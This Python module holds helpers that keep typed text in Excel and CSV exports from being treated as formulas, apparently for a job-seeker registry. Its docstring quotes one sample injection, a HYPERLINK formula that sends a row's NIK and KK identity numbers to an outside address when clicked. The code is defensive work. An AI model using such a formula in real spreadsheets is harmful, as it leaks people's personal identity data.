"""Excel cells that hold what was typed, never a formula.

openpyxl stores any text that starts with "=" as a live formula. A job seeker who types
=HYPERLINK("https://…?d="&B2&C2, "Lihat ijazah") as their major would get a working link in the
office's export that sends that row's NIK and KK away when clicked. Every export writes text
through these helpers, so such text stays text (shown as typed, never run).
"""

import io

from openpyxl.cell import WriteOnlyCell


def text_cell(sheet, value) -> WriteOnlyCell:
    """A write-only cell holding `value` as text."""
    cell = WriteOnlyCell(sheet, value="" if value is None else str(value))
    cell.data_type = "s"
    return cell


def write_only_value(sheet, value):
    """A value for a write-only sheet's row: numbers and dates as they are, text as text cells."""
    if isinstance(value, str) and value.startswith("="):
        return text_cell(sheet, value)
    return value


def workbook_bytes(workbook) -> bytes:
    """The .xlsx file. In a normal (not write-only) workbook, every formula openpyxl made of typed
    text is turned back into text first; write-only sheets got text cells as they were written."""
    if not workbook.write_only:
        for sheet in workbook.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    if cell.data_type == "f":
                        cell.data_type = "s"
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def csv_safe(value):
    """Text for a CSV file that Excel may open: a leading = + - @ (or tab, CR) would start a
    formula there, so such text gets an apostrophe in front (OWASP's advice)."""
    if isinstance(value, str) and value[:1] in ("=", "+", "-", "@", "\t", "\r"):
        return "'" + value
    return value
